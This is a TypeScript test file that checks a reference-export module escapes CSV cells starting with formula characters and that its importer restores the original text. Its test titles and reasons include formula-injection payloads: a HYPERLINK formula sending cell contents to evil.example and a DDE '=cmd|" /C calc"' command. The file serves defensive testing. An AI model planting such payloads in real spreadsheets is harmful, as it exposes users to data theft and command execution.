import t from 'tap'
import { parse } from 'csv-parse/sync'
import { csvLine, toCsv } from '../../src/export/csv.ts'
import type { ExportItem } from '../../src/export/item.ts'
import { memorySource, openReferenceInput } from '../../src/references/import.ts'
import { emptyRecord, type ReferenceRecord } from '../../src/references/model.ts'

const FORMULA = /^[=+\-@\t\r]/
const titles = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1,2)', '-5', '@SUM(A1)', "'=already quoted", "''-two quotes", "'Tis the season", 'Plain title']

const items: ExportItem[] = titles.map((title, k) => ({
  record: { ...emptyRecord(), title, doi: `10.5555/csv.${k}`, volume: k === 0 ? '\t12' : undefined, pages: k === 1 ? '\r3-4' : undefined },
  decision: [{ stage: 'title_abstract', decision: 'exclude', reason: '=cmd|" /C calc"!A0', note: '@note' }],
  tags: ['-tag']
}))

async function importText(text: string, fileName: string): Promise<ReferenceRecord[]> {
  const opened = await openReferenceInput(memorySource(text, fileName))
  const records: ReferenceRecord[] = []
  for await (const item of opened.items) if (item.kind === 'record') records.push(item.record)
  return records
}

t.test('no CSV cell starts with a character that makes a spreadsheet run it as a formula', async (t) => {
  const text = [...toCsv(items)].join('')
  const rows = parse(text) as string[][]
  t.equal(rows.length, items.length + 1)
  for (const row of rows) for (const cell of row) t.notMatch(cell, FORMULA, `cell ${JSON.stringify(cell.slice(0, 30))}`)
  t.equal(rows[1][0], `'${titles[0]}`, 'a formula is quoted with a single quote')
  t.equal(rows[7][0], "'Tis the season", 'a quote not followed by a formula character is left alone')
  t.equal(csvLine(['=1+1', 5, '-5']), "'=1+1,5,'-5\r\n", 'any CSV of the project (agreement.csv) is escaped; numbers are not')
})

t.test('the importer takes the quote off again in AnalyLit CSV and TSV exports, and only there', async (t) => {
  const csv = [...toCsv(items)].join('')
  const back = await importText(csv, 'export.csv')
  t.same(back.map((r) => r.title), titles, 'CSV: the titles come back exactly')
  t.equal(back[0].volume, '12', 'a cell that started with a tab is read (and trimmed) as before')
  const decisions = back.map((r) => r.screening?.decisions[0])
  t.same(decisions[0], { stage: 'title_abstract', decision: 'exclude', reason: '=cmd|" /C calc"!A0', note: '@note', tags: ['-tag'] }, 'the label block keeps the formula-like texts')

  const rows = parse(csv) as string[][]
  const tsv = rows.map((row) => row.map((cell) => (/[\t"\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell)).join('\t')).join('\n')
  t.same((await importText(tsv, 'export.tsv')).map((r) => r.title), titles, 'TSV: the same')

  const foreign = 'title,doi\r\n"\'=1+1",10.5555/f.1\r\n\'-5,10.5555/f.2\r\n'
  t.same((await importText(foreign, 'other.csv')).map((r) => r.title), ["'=1+1", "'-5"], 'a file without the analylit column is read as written')
})
